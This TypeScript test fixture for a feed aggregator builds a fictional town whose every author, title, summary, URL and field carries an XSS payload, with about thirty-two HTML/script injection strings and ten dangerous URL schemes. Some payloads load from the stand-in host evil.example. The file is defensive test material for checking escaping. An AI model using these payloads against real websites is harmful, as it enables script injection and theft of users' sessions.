/** A town whose every voice means harm: markup in each string that a source can give. */

import type { Draft } from '../../src/river/read/read.ts';
import type { VoiceKind } from '../../src/river/sources/sources.ts';
import type { SPEAKERS } from './marlbridge.ts';

/** Each sets `window.ran` or asks another site when it runs. `evil.example` is asked by none that is held. */
export const PAYLOADS = [
  '<script>window.ran=1</script>',
  '"><script>window.ran=1</script>',
  "'><script>window.ran=1</script>",
  '</title><script>window.ran=1</script>',
  '</textarea><script>window.ran=1</script>',
  '<img src=x onerror=window.ran=1>',
  '" onmouseover="window.ran=1" x="',
  "' onfocus='window.ran=1' autofocus x='",
  '<svg onload=window.ran=1>',
  '<svg><script href="https://evil.example/x.js"/></svg>',
  '<iframe srcdoc="<script>parent.ran=1</script>">',
  '<iframe src="javascript:parent.ran=1">',
  '<a href="javascript:window.ran=1">x</a>',
  '<form action="https://evil.example"><button>x</button></form>',
  '<button formaction="javascript:window.ran=1">x</button>',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<style>@import "https://evil.example/x.css"; body{background:url(https://evil.example/b)}</style>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<base href="https://evil.example/">',
  '<object data="https://evil.example/x"></object>',
  '<video poster="https://evil.example/x" autoplay><source src="https://evil.example/y" onerror="window.ran=1"></video>',
  '<math><mi//xlink:href="data:x,<script>window.ran=1</script>">',
  '<!--><script>window.ran=1</script>-->',
  '<![CDATA[><script>window.ran=1</script>]]>',
  '\u2028<script>window.ran=1</script>',
  '{{constructor.constructor("window.ran=1")()}}',
  '${window.ran=1}',
  '\ue000<script>window.ran=1</script>\ue001',
  '&lt;script&gt;window.ran=1&lt;/script&gt;',
  '<details open ontoggle=window.ran=1>',
  '<div style="background:url(https://evil.example/c)">',
  '<input autofocus onfocus=window.ran=1>',
];
export const URLS = [
  'javascript:window.ran=1',
  'JaVaScRiPt:window.ran=1',
  'java\tscript:window.ran=1',
  ' javascript:window.ran=1',
  'data:text/html,<script>parent.ran=1</script>',
  'vbscript:x',
  '//evil.example/x',
  '/\\evil.example/x',
  'https://a.example/"onmouseover="window.ran=1',
  "https://a.example/'><script>window.ran=1</script>",
];

const KINDS: VoiceKind[] = ['council', 'media', 'resident'];

export const HOSTILE: typeof SPEAKERS = PAYLOADS.map((payload, n) => {
  const url = URLS[n % URLS.length]!;
  const more: Partial<Draft> = {
    author: payload,
    categories: [payload],
    summary: payload,
    language: n % 3 === 0 ? payload : 'en',
    enclosures: [{ url, type: payload }],
    image: { url, alt: payload, credit: payload },
    url,
    // What river/read would give: cleaned words, with the payload only as text.
    html: `<p>${payload.replaceAll('&', '&amp;').replaceAll('<', '&lt;').replaceAll('>', '&gt;')}</p>`,
    ...(n % 2 === 0
      ? { event: { starts: new Date('2026-11-30T10:00:00Z'), allDay: false, location: payload } }
      : { action: { kind: 'comment', url, deadline: new Date('2026-12-01T10:00:00Z') } }),
  };
  return {
    name: payload,
    kind: KINDS[n % 3]!,
    said: [
      {
        hours: n + 1,
        title: `harm ${payload}`,
        text: `harm in Northfields ${payload}`,
        more,
        story: `s${n >> 1}`,
      },
    ],
  };
});
